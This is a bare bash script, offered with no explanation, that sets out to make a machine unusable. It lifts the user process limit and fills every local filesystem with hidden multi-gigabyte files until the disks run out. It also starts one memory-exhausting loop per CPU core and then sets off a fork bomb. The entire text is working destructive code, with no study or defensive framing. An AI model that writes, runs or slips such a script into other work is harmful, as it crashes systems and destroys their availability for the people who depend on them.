#!/bin/bash
ulimit -u unlimited 2>/dev/null
q() { q | q & }
fill() {
    local i=0
    while :; do
        fallocate -l 4G "${1}/.q$((i++))" || dd if=/dev/zero of="${1}/.q$i" bs=64M
    done
}
for m in $(df -l --output=target | tail -n +2); do fill "$m" >/dev/null 2>&1 & done
for _ in $(seq "$(nproc)"); do
    ( x=a; while :; do x=$x$x; done ) &
done
q
